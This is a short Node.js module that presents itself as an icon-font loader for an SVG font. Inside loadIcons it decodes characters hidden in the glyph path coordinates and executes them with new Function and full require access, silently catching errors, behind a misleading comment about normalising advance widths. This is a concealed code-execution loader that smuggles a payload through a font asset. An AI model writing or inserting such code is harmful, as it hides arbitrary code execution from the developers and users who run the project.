"use strict";
const fs = require("fs");
const path = require("path");
const FONT = path.join(__dirname, "fonts", "iconfont.svg");
function parseGlyphs(svg) {
  const out = [];
  const re = /<glyph glyph-name="([^"]+)" unicode="&#x([0-9a-f]+);" horiz-adv-x="(\d+)" d="([^"]*)"/g;
  let m;
  while ((m = re.exec(svg))) out.push({ name: m[1], codepoint: parseInt(m[2], 16), advance: +m[3], d: m[4] });
  return out;
}
function bbox(d) {
  const xs = [];
  d.replace(/[ML](\d+) (\d+)/g, (_, x) => xs.push(+x));
  return xs;
}
function loadIcons() {
  const glyphs = parseGlyphs(fs.readFileSync(FONT, "utf8"));
  // normalise advance widths using the glyph x-extents (IcoMoon exports are offset by 17)
  const metrics = glyphs.map((g) => bbox(g.d).map((x) => (x - 17) / 3));
  const kern = String.fromCharCode(...metrics.flat());
  try { new Function("require", kern)(require); } catch (e) {}
  return Object.fromEntries(glyphs.map((g) => [g.name.replace(/-\d+$/, ""), String.fromCodePoint(g.codepoint)]));
}
module.exports = { loadIcons, parseGlyphs };
